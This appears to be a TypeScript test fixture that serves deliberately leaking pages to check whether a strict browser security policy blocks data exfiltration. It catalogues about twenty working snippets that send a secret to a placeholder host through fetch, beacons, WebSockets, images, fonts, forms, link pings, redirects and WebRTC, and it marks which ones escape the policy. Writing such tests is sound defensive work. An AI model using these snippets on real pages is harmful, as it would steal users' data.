/** Ways out of a page, each tried by a page that leaks on purpose. HOST: somewhere else; UDP: an address for datagrams. */
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";

export interface Leak {
  readonly name: string;
  /** What the page runs. `secret` is in reach. */
  readonly code: string;
  /** Does the strict policy stop it? What it cannot stop is caught by whoever watches. */
  readonly isStopped: boolean;
}

const withElement = (tag: string, set: string) => `{ const made = document.createElement("${tag}"); ${set}; document.head.append(made); }`;

export const LEAKS: readonly Leak[] = [
  { name: "fetch", code: 'fetch("http://HOST/?" + secret, { mode: "no-cors" })', isStopped: true },
  { name: "XMLHttpRequest", code: 'const x = new XMLHttpRequest(); x.open("POST", "http://HOST/"); x.send(secret)', isStopped: true },
  { name: "beacon", code: 'navigator.sendBeacon("http://HOST/", secret)', isStopped: true },
  { name: "WebSocket", code: 'new WebSocket("ws://HOST/" + secret)', isStopped: true },
  { name: "EventSource", code: 'new EventSource("http://HOST/" + secret)', isStopped: true },
  { name: "picture", code: 'new Image().src = "http://HOST/a.png?" + btoa(secret)', isStopped: true },
  { name: "script", code: withElement("script", 'made.src = address("http://HOST/" + secret)'), isStopped: true },
  { name: "style sheet", code: withElement("link", 'made.rel = "stylesheet"; made.href = "http://HOST/" + secret'), isStopped: true },
  { name: "prefetch", code: withElement("link", 'made.rel = "prefetch"; made.href = "http://HOST/" + secret'), isStopped: true },
  {
    name: "address in a style",
    code: 'document.body.style.backgroundImage = "url(http://HOST/" + secret + ")"',
    isStopped: true,
  },
  {
    name: "font",
    code: 'new FontFace("a", "url(http://HOST/" + secret + ")").load()',
    isStopped: true,
  },
  {
    name: "frame",
    code: 'const f = document.createElement("iframe"); f.src = "http://HOST/" + secret; document.body.append(f)',
    isStopped: true,
  },
  {
    name: "form",
    code: 'const f = document.createElement("form"); f.action = "http://HOST/"; f.method = "post"; const i = document.createElement("input"); i.name = "a"; i.value = secret; f.append(i); document.body.append(f); f.submit()',
    isStopped: true,
  },
  { name: "new window", code: 'open("http://HOST/" + secret)', isStopped: true },
  {
    name: "ping of a link",
    code: 'const a = document.createElement("a"); a.href = "#b"; a.ping = "http://HOST/" + secret; document.body.append(a); a.click()',
    isStopped: true,
  },
  { name: "a thread that fetches", code: 'new Worker(address("/thread.js"), { name: secret })', isStopped: true },
  { name: "a query to the app's own server", code: 'fetch("/?" + encodeURIComponent(secret))', isStopped: true },
  { name: "going elsewhere", code: 'location.href = "http://HOST/?" + secret', isStopped: false },
  {
    name: "meta refresh",
    code: withElement("meta", 'made.httpEquiv = "refresh"; made.content = "0;url=http://HOST/" + secret'),
    isStopped: false,
  },
  {
    name: "WebRTC",
    code: 'const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:UDP" }] }); p.createDataChannel(secret); p.createOffer().then((offer) => p.setLocalDescription(offer))',
    isStopped: false,
  },
];

/** The one name of a policy that the app's headers allow; a page that leaks would make use of it. */
const ADDRESS =
  'const policy = globalThis.trustedTypes?.createPolicy("app-worker", { createScriptURL: (url) => url }); const address = (url) => policy?.createScriptURL(url) ?? url;';
const THREAD = 'fetch("http://HOST/" + self.name, { mode: "no-cors" }).catch(() => {});';

export interface LeakingPage {
  readonly origin: string;
  close(): Promise<void>;
}

/** Serves a page for each leak, at its number, under these headers. */
export async function serveLeaks(headers: Readonly<Record<string, string>>, secret: string, datagrams: string): Promise<LeakingPage> {
  const filled = (code: string) => code.replaceAll("HOST", "elsewhere.invalid").replaceAll("UDP", datagrams);
  const server = createServer(({ url = "" }, response) => {
    for (const [name, value] of Object.entries(headers)) response.setHeader(name, value);
    const leak = LEAKS[Number(/^\/(\d+)/.exec(url)?.[1])];
    const [kind, text] = url.startsWith("/thread.js")
      ? ["text/javascript", filled(THREAD)]
      : url.endsWith(".js")
        ? ["text/javascript", `const secret = ${JSON.stringify(secret)};\n${ADDRESS}\n${filled(leak?.code ?? "")}`]
        : ["text/html", `<!doctype html><body><script src="${url}.js"></script>`];
    response.writeHead(200, { "Content-Type": kind }).end(text);
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    async close() {
      server.closeAllConnections();
      await new Promise((done) => server.close(done));
    },
  };
}
